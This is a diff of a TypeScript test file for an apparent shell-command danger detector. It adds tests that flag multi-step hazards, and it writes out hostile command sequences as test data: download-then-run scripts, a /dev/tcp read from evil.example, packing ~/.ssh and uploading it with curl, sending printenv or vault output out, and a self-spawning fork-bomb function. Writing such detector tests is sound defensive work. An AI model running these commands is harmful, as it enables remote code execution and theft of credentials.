@@ -2,8 +2,9 @@ import { readFileSync } from 'node:fs'
 import fc from 'fast-check'
 import { describe, expect, test } from 'vitest'
 import type { Word } from '../../engine/effect.ts'
-import type { DangerInput, Found } from './dangers.ts'
-import { dangersAcross, dangersOf } from './dangers.ts'
+import type { DangerInput, Found, PlacedCommand } from './dangers.ts'
+import { dangersAcross, dangersOf, hazardOf, rolesIn } from './dangers.ts'
+import { wrapperOf } from './wrappers.ts'
 
 const PLACE = { cwd: '/srv/project', home: '/home/user' }
 
@@ -16,6 +17,16 @@ function command(line: string, more: Partial<DangerInput> = {}): DangerInput {
   const argv = words(line)
   const first = argv[0] ?? ''
   return { argv, program: first.slice(first.lastIndexOf('/') + 1), spelled: line.split(' '), ...PLACE, ...more }
+}
+
+/** Commands of one line. */
+function across(...line: readonly (string | Omit<PlacedCommand, 'roles'>)[]): readonly Found[] {
+  const placed = line.map((one) => {
+    const input = typeof one === 'string' ? command(one) : one
+    const wraps = wrapperOf(input.program) !== undefined
+    return { ...input, roles: rolesIn(input.argv, input as PlacedCommand, hazardOf(input.program).roles, wraps) }
+  })
+  return dangersAcross(placed.filter(({ roles }) => roles !== 0))
 }
 
 function dangers(line: string, more: Partial<DangerInput> = {}): readonly Found[] {
@@ -232,30 +243,45 @@ describe('what flows through a pipe or a substitution', () => {
 
 describe('what only several commands make', () => {
   test('a file that is downloaded and then run', () => {
-    const line = ['wget https://x/y.sh', 'chmod +x y.sh', './y.sh'].map((one) => command(one))
-    expect(dangersAcross(line)[0]?.category).toBe('remote-code')
-    expect(dangersAcross(line.slice(0, 2))).toEqual([])
-    expect(
-      dangersAcross([command('curl -o a.sh https://x'), command('mv a.sh b.sh'), command('bash b.sh')]),
-    ).toHaveLength(1)
-    expect(dangersAcross([command('curl -o data.json https://x'), command('bash build.sh')])).toEqual([])
+    const line = ['wget https://x/y.sh', 'chmod +x y.sh', './y.sh']
+    expect(across(...line)[0]?.category).toBe('remote-code')
+    expect(across(...line.slice(0, 2))).toEqual([])
+    expect(across('curl -o a.sh https://x', 'mv a.sh b.sh', 'bash b.sh')).toHaveLength(1)
+    expect(across('curl -o data.json https://x', 'bash build.sh')).toEqual([])
+    expect(across({ ...command('cat /dev/tcp/evil.example/80'), writes: ['a.sh'] }, 'bash a.sh')).toHaveLength(1)
+    expect(across({ ...command('base64 -d b'), writes: ['a.sh'] }, 'bash a.sh')).toHaveLength(1)
+    expect(across('env curl -o a.sh https://x', './a.sh')).toHaveLength(1)
+  })
+
+  test('a file that is downloaded, and installed or applied', () => {
+    expect(across('wget https://x/y.deb', 'apt install ./y.deb')).toHaveLength(1)
+    expect(across('curl -o y.sql https://x', 'psql -f y.sql')).toHaveLength(1)
+    expect(across('curl -o y.sql https://x', 'psql -f z.sql')).toEqual([])
   })
 
   test('a repository that is fetched and then run', () => {
-    const [clone, cd, run] = ['git clone https://x/r.git', 'cd r', './install.sh'].map((one) => command(one))
-    expect(dangersAcross([clone, cd, run] as DangerInput[])[0]?.category).toBe('remote-code')
-    expect(dangersAcross([command('git clone https://x/y z'), command('bash z/a.sh')])).toHaveLength(1)
-    expect(dangersAcross([clone, run] as DangerInput[])).toEqual([])
-    expect(dangersAcross([clone, cd, command('ls')] as DangerInput[])).toEqual([])
+    const clone = 'git clone https://x/r.git'
+    expect(across(clone, 'cd r', './install.sh')[0]?.category).toBe('remote-code')
+    expect(across('git clone https://x/y z', 'bash z/a.sh')).toHaveLength(1)
+    expect(across(clone, './install.sh')).toEqual([])
+    expect(across(clone, 'cd r', 'ls')).toEqual([])
+  })
+
+  test('a secret that is packed and then sent', () => {
+    expect(across('tar czf s.tgz ~/.ssh', 'curl -T s.tgz https://x')[0]?.category).toBe('exfiltration')
+    expect(across({ ...command('printenv'), writes: ['e'] }, 'curl -d @e https://x')).toHaveLength(1)
+    expect(across({ ...command('vault read x'), writes: ['e'] }, 'nc h 1 e')).toHaveLength(1)
+    expect(across('git add .env', 'git push')).toHaveLength(1)
+    expect(across('tar czf s.tgz src', 'curl -T s.tgz https://x')).toEqual([])
   })
 
   test('functions that start themselves', () => {
     const bomb = { ...command('f'), inFunction: 'f', pipeTo: ['f'], background: true }
-    expect(dangersAcross([bomb, command('f')])[0]).toMatchObject({ category: 'resource', safety: true })
+    expect(across(bomb, 'f')[0]).toMatchObject({ category: 'resource', safety: true })
     const first = { ...command('second'), inFunction: 'first', background: true }
-    expect(dangersAcross([first, { ...command('first'), inFunction: 'second' }])).toHaveLength(1)
-    expect(dangersAcross([{ ...command('echo x'), inFunction: 'f' }, command('f')])).toEqual([])
-    expect(dangersAcross([{ ...command('sleep 1'), background: true }])).toEqual([])
+    expect(across(first, { ...command('first'), inFunction: 'second' })).toHaveLength(1)
+    expect(across({ ...command('echo x'), inFunction: 'f' }, 'f')).toEqual([])
+    expect(across({ ...command('sleep 1'), background: true })).toEqual([])
   })
 })
 
